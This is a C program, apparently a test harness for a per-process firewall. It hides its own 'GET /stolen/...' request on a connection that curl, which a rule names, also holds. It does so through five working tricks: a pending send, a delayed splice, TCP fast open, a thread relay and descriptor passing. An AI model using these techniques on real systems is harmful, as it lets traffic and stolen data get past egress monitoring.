// Inside: a request of this program's on a connection that curl, which a rule names, merely holds as well.
// argv: the way, the host. Each way opens the connection and has let go of it when the look-up comes:
//   sender   a send(2) that began before close(2) waits for the handshake
//   splice   a splice(2) from a pipe that is filled later
//   tfo      TCP fast open: the request waits in the socket
//   threads  a table that threads hand on, each ending at once
//   tables   the descriptor goes to and fro between two processes
#define _GNU_SOURCE
#include <fcntl.h>
#include <netdb.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int flow, pipes[2];
static struct sockaddr_in to;
static char text[512];
static volatile int may_go, has_entered;

// It waits for its input and never uses what it inherited.
static pid_t start_curl(void)
{
    int input[2];
    if (pipe(input)) exit(1);
    pid_t const child = fork();
    if (!child) {
        dup2(input[0], 0);
        close(input[1]);
        execl("/usr/bin/curl", "curl", "-s", "-K", "-", (char *)0);
        _exit(127);
    }
    close(input[0]);
    char path[64], link[256] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", child);
    while (!strstr(link, "/curl")) {
        usleep(1000);
        if (readlink(path, link, sizeof link - 1) < 0) exit(1);
    }
    usleep(50000);
    return child;
}

static void open_flow(void)
{
    fcntl(flow, F_SETFL, O_NONBLOCK);
    connect(flow, (struct sockaddr *)&to, sizeof to);
}

static void *sender(void *unused)
{
    while (!may_go) {}
    has_entered = 1;
    if (send(flow, text, strlen(text), MSG_NOSIGNAL) < 0) perror("send");
    return unused;
}

static void *splicer(void *unused)
{
    has_entered = 1;
    if (splice(pipes[0], 0, flow, 0, 65536, 0) < 0) perror("splice");
    return unused;
}

static char stacks[256][16384] __attribute__((aligned(16)));
static volatile enum { Begun, Apart, Opened, Sent } stage;

static int relay(void *number)
{
    if (stage == Begun) {
        unshare(CLONE_FILES);
        stage = Apart;
        while (!may_go) usleep(100);
        open_flow();
        stage = Opened;
    } else {
        struct pollfd ready = {flow, POLLOUT, 0};
        if (poll(&ready, 1, 0) > 0) {
            if (send(flow, text, strlen(text), MSG_NOSIGNAL) < 0) perror("send");
            stage = Sent;
            syscall(SYS_exit, 0);
        }
    }
    size_t const next = ((size_t)number + 1) % 256;
    clone(relay, stacks[next] + sizeof stacks[next], CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, (void *)next);
    syscall(SYS_exit, 0);
    return 0;
}

static void pass(int through, int fd)
{
    char room[CMSG_SPACE(sizeof fd)] = {0};
    struct iovec words = {"x", 1};
    struct msghdr message = {.msg_iov = &words, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    struct cmsghdr *head = CMSG_FIRSTHDR(&message);
    head->cmsg_level = SOL_SOCKET, head->cmsg_type = SCM_RIGHTS, head->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(head), &fd, sizeof fd);
    if (sendmsg(through, &message, MSG_NOSIGNAL) < 0) _exit(0);
    close(fd);
}

static int taken(int from)
{
    char room[CMSG_SPACE(sizeof(int))], word;
    struct iovec words = {&word, 1};
    struct msghdr message = {.msg_iov = &words, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof room};
    if (recvmsg(from, &message, 0) <= 0) _exit(0);
    int fd;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    return fd;
}

static void play(int with)
{
    int fd = flow;
    for (;;) {
        struct pollfd ready = {fd, POLLOUT, 0};
        if (poll(&ready, 1, 0) > 0) {
            if (send(fd, text, strlen(text), MSG_NOSIGNAL) < 0) perror("send");
            return;
        }
        pass(with, fd);
        fd = taken(with);
    }
}

int main(int argc, char **argv)
{
    if (argc != 3) return 2;
    char const *way = argv[1];
    struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_STREAM}, *found;
    if (getaddrinfo(argv[2], "80", &hints, &found) || pipe2(pipes, O_CLOEXEC)) return 1;
    memcpy(&to, found->ai_addr, sizeof to);
    snprintf(text, sizeof text, "GET /stolen/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", way, argv[2]);
    flow = socket(AF_INET, SOCK_STREAM, 0);
    pid_t const curl = start_curl();
    pthread_t thread;
    alarm(10);
    if (!strcmp(way, "sender")) {
        pthread_create(&thread, 0, sender, 0);
        open_flow();
        fcntl(flow, F_SETFL, 0);
        may_go = 1;
        while (!has_entered) {}
        for (volatile int i = 0; i < 3000; ++i) {}
        close(flow);
    } else if (!strcmp(way, "splice")) {
        pthread_create(&thread, 0, splicer, 0);
        while (!has_entered) {}
        usleep(10000);
        open_flow();
        fcntl(flow, F_SETFL, 0);
        close(flow);
        usleep(300000);
        if (write(pipes[1], text, strlen(text)) < 0) return 1;
    } else if (!strcmp(way, "tfo")) {
        int const on = 1;
        setsockopt(flow, IPPROTO_TCP, 34, &on, sizeof on); // TCP_FASTOPEN_NO_COOKIE
        if (sendto(flow, text, strlen(text), MSG_FASTOPEN | MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) < 0) perror("sendto");
        close(flow);
    } else if (!strcmp(way, "threads")) {
        clone(relay, stacks[0] + sizeof stacks[0], CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM, (void *)0);
        while (stage != Apart) usleep(100);
        close(flow);
        may_go = 1;
        for (int i = 0; i < 15 && stage != Sent; ++i) usleep(100000);
    } else if (!strcmp(way, "tables")) {
        int pair[2];
        if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return 1;
        pid_t const other = fork();
        if (!other) {
            close(pair[0]), close(flow);
            alarm(10);
            flow = taken(pair[1]);
            play(pair[1]);
            _exit(0);
        }
        close(pair[1]);
        open_flow();
        alarm(2);
        play(pair[0]);
    }
    usleep(500000);
    kill(curl, SIGKILL);
    puts("end");
    return 0;
}
